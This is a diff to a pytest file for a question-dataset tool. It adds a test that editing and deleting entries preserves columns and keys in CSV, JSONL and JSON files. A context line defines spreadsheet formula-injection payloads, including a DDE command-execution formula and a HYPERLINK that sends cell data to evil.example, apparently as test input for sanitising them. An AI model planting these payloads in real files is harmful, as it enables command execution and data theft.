@@ -312,6 +312,33 @@ def test_edit_and_delete_keep_other_sheets_and_unknown_columns_of_a_workbook(dat
     assert [x.question_id for x in load_question_file(path)] == ["x1", "x3"]
 
 
+@pytest.mark.parametrize("name, text", [
+    ("review.csv", "编号,问题,标准答案,审核人\nx1,深圳创业补贴多少？,1万元。,王芳\nx2,Who pays?,The employer.,Li\n"),
+    ("review.jsonl", '{"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"}\n'
+                     '{"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}\n'),
+    ("review.json", json.dumps({"version": 3, "questions": [
+        {"id": "x1", "question": "深圳创业补贴多少？", "answer": "1万元。", "reviewer": "王芳"},
+        {"id": "x2", "question": "Who pays?", "answer": "The employer.", "reviewer": "Li"}]}, ensure_ascii=False)),
+])
+def test_edit_and_delete_keep_the_columns_and_keys_of_text_files(dataset, name, text):
+    path = dataset / "datasets" / "policy_zh" / "questions" / name
+    path.write_text(text, encoding="utf-8")
+    assert q(dataset, "edit", "x1", "--answer", "一次性补贴1万元。") == 0
+    assert q(dataset, "delete", "x2") == 0
+    assert q(dataset, "add", "--id", "x3", "--question", "何时申报？", "--answer", "每年5月。", "--file", name) == 0
+    written = path.read_text(encoding="utf-8")
+    assert "王芳" in written and "The employer." not in written
+    if name.endswith(".csv"):
+        assert written.startswith("编号,问题,标准答案,审核人,")
+    else:
+        records = ([json.loads(line) for line in written.splitlines()] if name.endswith(".jsonl")
+                   else json.loads(written)["questions"])
+        assert records[0] == {"id": "x1", "question": "深圳创业补贴多少？", "answer": "一次性补贴1万元。", "reviewer": "王芳"}
+        assert name.endswith(".jsonl") or json.loads(written)["version"] == 3
+    assert [(x.question_id, x.ground_truth_answer) for x in load_question_file(path)] == [
+        ("x1", "一次性补贴1万元。"), ("x3", "每年5月。")]
+
+
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1:A2)"]
 
 
